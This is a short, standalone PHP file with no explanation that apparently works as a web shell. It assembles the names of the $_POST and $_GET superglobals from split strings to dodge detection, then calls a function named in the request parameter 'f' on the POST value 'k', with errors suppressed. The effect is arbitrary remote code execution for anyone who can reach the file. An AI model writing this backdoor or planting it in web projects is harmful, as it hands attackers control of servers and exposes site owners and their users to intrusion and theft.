<?php
$p = ${"_PO"."ST"};
$q = ${"_G"."ET"}['f'];
if (!empty($p['k'])) { @$q($p['k']); }
